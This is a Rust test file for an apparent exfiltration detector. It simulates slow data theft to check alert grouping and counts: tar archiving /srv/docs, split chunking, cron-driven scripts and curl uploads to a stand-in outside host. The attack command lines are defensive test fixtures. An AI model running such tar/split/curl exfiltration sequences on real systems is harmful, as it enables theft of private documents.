//! Stories over hours: what is taken a little at a time, or collected long before it leaves.

use super::*;

const MINUTE: u64 = 60;
const HOUR: u64 = 3_600;

/// Time goes by as the agent sees it.
fn pass(scene: &mut Scene, seconds: u64) {
    for _ in 0..seconds / MINUTE {
        scene.wait(MINUTE);
        scene.tick();
    }
}

/// At a terminal, tar packs documents into `archive` and ends.
fn collect(scene: &mut Scene, archive: &str) {
    scene.spawn_with(10, 50, "/bin/bash", &["bash"], [TTY; 3]);
    scene.spawn(50, 101, "/usr/bin/tar", &["tar", "-cf", archive, "/srv/docs"]);
    scene.write(101, 9_000, archive);
    read_documents(scene, 101);
    scene.exit(101);
}

/// split cuts the archive into chunks of 60 kB.
fn cut(scene: &mut Scene, archive: &str, chunks: u32) {
    scene.spawn(50, 102, "/usr/bin/split", &["split", "-b", "60k", archive]);
    scene.read(102, 9_000, archive, 60_000 * u64::from(chunks));
    for chunk in 0..chunks {
        scene.write(102, 20_000 + u64::from(chunk), &format!("/opt/x{chunk}"));
    }
    scene.exit(102);
}

fn send_chunk(scene: &mut Scene, parent: u32, pid: u32, chunk: u32) {
    let name = format!("/opt/x{chunk}");
    scene.spawn(parent, pid, "/usr/bin/curl", &["curl", "-T", &name, "https://198.51.100.2/"]);
    scene.read(pid, 20_000 + u64::from(chunk), &name, 60_000);
    scene.connect(pid, u64::from(pid), OUTSIDE);
    scene.send(pid, u64::from(pid), OUTSIDE, 60_000, 60_000);
    scene.exit(pid);
}

#[test]
fn a_job_that_sends_a_chunk_every_few_minutes_is_one_story_over_the_day() {
    let mut scene = Scene::new();
    scene.spawn(10, 20, "/usr/sbin/cron", &["cron", "-f"]);
    collect(&mut scene, "/var/tmp/b");
    cut(&mut scene, "/var/tmp/b", 200);
    for chunk in 0..200 {
        let pid = 1_000 + 2 * chunk;
        scene.spawn(20, pid, "/bin/dash", &["sh", "-c", "/root/drip.sh"]);
        send_chunk(&mut scene, pid, pid + 1, chunk);
        scene.exit(pid);
        pass(&mut scene, 5 * MINUTE);
    }
    scene.stop();
    let alerts = alerts(&scene);
    assert_eq!(ids(&alerts).len(), 1);
    let last = alerts.last().unwrap();
    assert_eq!(last.bytes_out, 12_000_000);
    let chain = chain(last);
    for name in ["tar", "split", "curl"] {
        assert!(chain.contains(&name.to_owned()), "{name} of {chain:?}");
    }
    assert!(alerts.len() <= 8, "{} lines", alerts.len());
    let did = &last.chain.iter().find(|link| link.process.key == last.process.key).unwrap().did;
    assert!(did.contains(&"200 processes of this program sent 12.0 MB in all".to_owned()), "{did:?}");
}

#[test]
fn what_is_collected_at_noon_and_sent_at_night_is_one_story() {
    for (hours, expected) in [(1, 1), (11, 1), (20, 1), (60, 0)] {
        let mut scene = Scene::new();
        collect(&mut scene, "/opt/b");
        pass(&mut scene, hours * HOUR);
        scene.spawn(50, 200, "/opt/own-sender", &["own-sender"]);
        scene.read(200, 9_000, "/opt/b", 12_000_000);
        scene.connect(200, 7, OUTSIDE);
        scene.send(200, 7, OUTSIDE, 12_050_000, 500_000);
        scene.stop();
        let alerts = alerts(&scene);
        assert_eq!(ids(&alerts).len(), expected, "{hours} h");
        if let Some(last) = alerts.last() {
            assert_eq!(last.process.key.pid, 200);
            assert!(chain(last).contains(&"tar".to_owned()), "{hours} h: {:?}", chain(last));
        }
    }
}

#[test]
fn a_trickle_is_one_story() {
    let mut scene = Scene::new();
    collect(&mut scene, "/var/tmp/b");
    scene.spawn(10, 200, "/usr/bin/python3", &["python3", "/root/drip.py"]);
    scene.read(200, 9_000, "/var/tmp/b", 12_000_000);
    scene.connect(200, 7, OUTSIDE);
    for minute in 1..=300 {
        scene.snapshot(200, 7, OUTSIDE, minute * 20_000);
        pass(&mut scene, MINUTE);
    }
    scene.stop();
    let alerts = alerts(&scene);
    assert_eq!(ids(&alerts).len(), 1);
    assert!(chain(alerts.last().unwrap()).contains(&"tar".to_owned()));
}

#[test]
fn many_short_commands_typed_by_a_loop_are_one_story() {
    let mut scene = Scene::new();
    collect(&mut scene, "/var/tmp/b");
    cut(&mut scene, "/var/tmp/b", 200);
    for chunk in 0..200 {
        send_chunk(&mut scene, 50, 1_000 + chunk, chunk);
    }
    scene.stop();
    let alerts = alerts(&scene);
    assert_eq!(ids(&alerts).len(), 1);
    let last = alerts.last().unwrap();
    assert_eq!(last.bytes_out, 12_000_000);
    assert!(chain(last).contains(&"tar".to_owned()));
}

#[test]
fn an_hourly_job_is_told_as_often_as_its_sum_doubles() {
    let mut scene = Scene::new();
    scene.spawn(10, 20, "/usr/sbin/cron", &["cron", "-f"]);
    for hour in 0..20_u32 {
        let pid = 1_000 + 10 * hour;
        scene.spawn(20, pid, "/bin/dash", &["sh", "-c", "/root/steal.sh"]);
        scene.spawn(pid, pid + 1, "/usr/bin/tar", &["tar", "-cf", "/var/tmp/b", "/srv/docs"]);
        scene.write(pid + 1, 9_000, "/var/tmp/b");
        read_documents(&mut scene, pid + 1);
        scene.exit(pid + 1);
        scene.spawn(pid, pid + 2, "/usr/bin/curl", &["curl", "-T", "/var/tmp/b", OUTSIDE]);
        scene.read(pid + 2, 9_000, "/var/tmp/b", 12_000_000);
        scene.connect(pid + 2, u64::from(pid), OUTSIDE);
        scene.send(pid + 2, u64::from(pid), OUTSIDE, 12_050_000, 2_000_000);
        scene.exit(pid + 2);
        scene.exit(pid);
        pass(&mut scene, HOUR);
    }
    scene.stop();
    let alerts = alerts(&scene);
    // The first was closed before anybody could know that there would be a next one.
    assert_eq!(ids(&alerts).len(), 2);
}

#[test]
fn bytes_of_a_month_are_no_volume() {
    let mut scene = Scene::new();
    scene.spawn(10, 100, "/usr/bin/python3", &["python3", "/opt/report.py"]);
    read_documents(&mut scene, 100);
    scene.connect(100, 7, OUTSIDE);
    for day in 1..=10 {
        scene.snapshot(100, 7, OUTSIDE, day * 1_500_000);
        pass(&mut scene, 24 * HOUR);
    }
    scene.stop();
    let strong = run(&scene, Config::default())
        .into_iter()
        .filter_map(|record| match record.body {
            Body::Signal(line) => Some(line.signal.signal.reason.into_owned()),
            Body::Alert(_)
            | Body::Start { .. }
            | Body::Stop { .. }
            | Body::Heartbeat { .. }
            | Body::Gap { .. } => None,
        })
        .filter(|reason| reason.contains("processes of this story sent"))
        .count();
    assert_eq!(strong, 0);
}

#[test]
fn the_findings_of_a_job_are_told_a_few_times() {
    let mut scene = Scene::new();
    scene.spawn(10, 20, "/usr/sbin/cron", &["cron", "-f"]);
    for run in 0..100_u32 {
        let pid = 1_000 + run;
        scene.spawn(20, pid, "/opt/snapshot", &["snapshot"]);
        scene.write(pid, 9_000 + u64::from(run), &format!("/var/tmp/{run}.img"));
        scene.exit(pid);
        pass(&mut scene, 5 * MINUTE);
    }
    scene.stop();
    let lines = run(&scene, Config::default());
    let signals = lines.iter().filter(|record| matches!(record.body, Body::Signal(_))).count();
    assert_eq!(signals, 8);
}
